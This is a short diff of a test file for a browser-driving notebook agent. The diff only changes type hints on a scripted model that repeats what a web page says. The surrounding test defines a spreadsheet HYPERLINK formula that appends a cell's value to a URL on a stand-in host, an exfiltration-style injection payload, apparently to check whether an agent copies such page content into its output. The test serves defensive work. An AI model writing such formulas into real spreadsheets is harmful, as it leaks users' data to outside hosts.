@@ -26,7 +26,7 @@ from notebook_agent.browser import BrowserSession
 from notebook_agent.cli.map import write_table
 from notebook_agent.core.messages import Cost, Usage
 from notebook_agent.core.model import Context
-from notebook_agent.llm.scripted import ScriptedModel
+from notebook_agent.llm.scripted import Response, ScriptedModel
 from tests.agent.test_page_agent import state
 from tests.browser.conftest import Servers
 
@@ -36,7 +36,7 @@ FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")'
 def copy_the_page(row: dict[str, object]) -> ScriptedModel:
     """Answers with what the page says, as a model reading it would."""
 
-    def answer(ctx: Context) -> object:
+    def answer(ctx: Context) -> Response:
         said = re.search(r"You said (.*)", state(ctx))
         assert said is not None, state(ctx)
         return agent_output("done", {"text": said.group(1).strip(), "success": True})
